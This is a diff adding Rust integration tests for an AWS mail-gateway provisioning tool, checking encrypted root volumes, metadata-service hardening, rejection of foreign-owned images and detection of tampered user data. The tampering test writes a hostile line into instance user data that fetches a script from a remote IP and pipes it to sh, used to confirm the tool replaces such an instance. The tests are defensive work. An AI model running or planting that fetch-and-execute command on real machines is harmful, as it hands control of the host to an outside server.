@@ -1161,3 +1161,155 @@ async fn a_subnet_that_reaches_the_internet_through_a_nat_stops_the_plan() {
     );
     assert_eq!(writes(&acct), before, "{:?}", acct.requests());
 }
+
+/// An image registered in this account, as a team that builds its own would: x86_64, root
+/// device /dev/xvda, declaring `ImdsSupport: v2.0` (which raises EC2's default hop limit).
+async fn own_image(acct: &Account) -> String {
+    acct.ec2(R)
+        .register_image()
+        .name("relay-base")
+        .architecture(aws_sdk_ec2::types::ArchitectureValues::X8664)
+        .root_device_name("/dev/xvda")
+        .imds_support(aws_sdk_ec2::types::ImdsSupportValues::V20)
+        .send()
+        .await
+        .unwrap()
+        .image_id()
+        .unwrap()
+        .to_owned()
+}
+
+#[tokio::test]
+async fn the_root_volume_is_encrypted_and_the_metadata_service_one_hop_away() {
+    let acct = Account::new();
+    acct.create_zone("example.com").await;
+    let image = own_image(&acct).await;
+    acct.write(
+        "b.yaml",
+        &GATEWAY.replace("  relay_from:", &format!("  image: {image}\n  relay_from:")),
+    );
+    apply(&acct, "b.yaml");
+    let out = acct
+        .ec2(R)
+        .describe_instances()
+        .filters(owned())
+        .send()
+        .await
+        .unwrap();
+    let instance = &out.reservations()[0].instances()[0];
+    let imds = instance.metadata_options().unwrap();
+    assert_eq!(imds.http_tokens().unwrap().as_str(), "required");
+    assert_eq!(imds.http_put_response_hop_limit(), Some(1));
+    let volumes = acct
+        .ec2(R)
+        .describe_volumes()
+        .filters(
+            Filter::builder()
+                .name("attachment.instance-id")
+                .values(instance.instance_id().unwrap())
+                .build(),
+        )
+        .send()
+        .await
+        .unwrap();
+    let volumes = volumes.volumes();
+    assert!(!volumes.is_empty());
+    for v in volumes {
+        assert_eq!(v.encrypted(), Some(true), "{v:?}");
+        let attached = &v.attachments()[0];
+        assert_eq!(attached.device(), Some("/dev/xvda"), "{v:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_pinned_image_of_another_owner_stops_the_plan_before_any_write() {
+    let acct = Account::new();
+    acct.create_zone("example.com").await;
+    let images = acct
+        .ec2(R)
+        .describe_images()
+        .owners("801119661308")
+        .send()
+        .await
+        .unwrap();
+    let foreign = images
+        .images()
+        .iter()
+        .find(|i| i.architecture().map(|a| a.as_str()) == Some("x86_64"))
+        .unwrap()
+        .image_id()
+        .unwrap()
+        .to_owned();
+    acct.write(
+        "b.yaml",
+        &GATEWAY.replace(
+            "  relay_from:",
+            &format!("  image: {foreign}\n  relay_from:"),
+        ),
+    );
+    let before = writes(&acct);
+    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    assert!(
+        run.stderr.contains(&format!(
+            "the image `{foreign}` is owned by account 801119661308, neither Debian (136693071363) nor this account"
+        )),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(writes(&acct), before, "{:?}", acct.requests());
+
+    // The account's own image is launched.
+    let image = own_image(&acct).await;
+    acct.write(
+        "b.yaml",
+        &GATEWAY.replace("  relay_from:", &format!("  image: {image}\n  relay_from:")),
+    );
+    apply(&acct, "b.yaml");
+}
+
+#[tokio::test]
+async fn user_data_changed_outside_mailinfra_replaces_the_instance() {
+    let acct = Account::new();
+    acct.create_zone("example.com").await;
+    acct.write("b.yaml", GATEWAY);
+    apply(&acct, "b.yaml");
+    let id = running(&instances(&acct).await)[0].clone();
+    // As AWS requires: stop, change the user data, start.
+    let ec2 = acct.ec2(R);
+    ec2.stop_instances().instance_ids(&id).send().await.unwrap();
+    ec2.modify_instance_attribute()
+        .instance_id(&id)
+        .user_data(
+            aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
+                .value(aws_sdk_ec2::primitives::Blob::new(
+                    "#!/bin/sh\ncurl -s http://198.51.100.9/x | sh\n",
+                ))
+                .build(),
+        )
+        .send()
+        .await
+        .unwrap();
+    ec2.start_instances()
+        .instance_ids(&id)
+        .send()
+        .await
+        .unwrap();
+
+    let plan = acct.mailinfra(&["plan", "b.yaml"]);
+    assert!(
+        plan.stdout.contains("replace gateway.instance"),
+        "{}\n{}",
+        plan.stdout,
+        plan.stderr
+    );
+    assert!(
+        plan.stdout.contains("user data: changed outside mailinfra"),
+        "{}",
+        plan.stdout
+    );
+    apply(&acct, "b.yaml");
+    let now = running(&instances(&acct).await);
+    assert_eq!(now.len(), 1);
+    assert_ne!(now[0], id);
+}
